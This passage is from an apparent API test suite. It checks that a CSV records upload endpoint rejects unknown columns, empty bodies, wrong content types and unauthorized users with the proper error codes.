      expect((await csvPost('/api/v1/gi/records.csv', 'regime,colour\nagi,red').expect(400)).body).toMatchObject({ code: 'INVALID_CSV', details: { unknownColumns: ['colour'] } });
      expect((await csvPost('/api/v1/gi/records.csv', '').expect(400)).body.code).toBe('INVALID_CSV');
      await t.http().post('/api/v1/gi/records.csv').set(auth(chengdu.token)).send({ csv: 'x' }).expect(415);
      await csvPost('/api/v1/gi/records.csv', `${header}\n`, coop.token).expect(403);
    });
  });
});
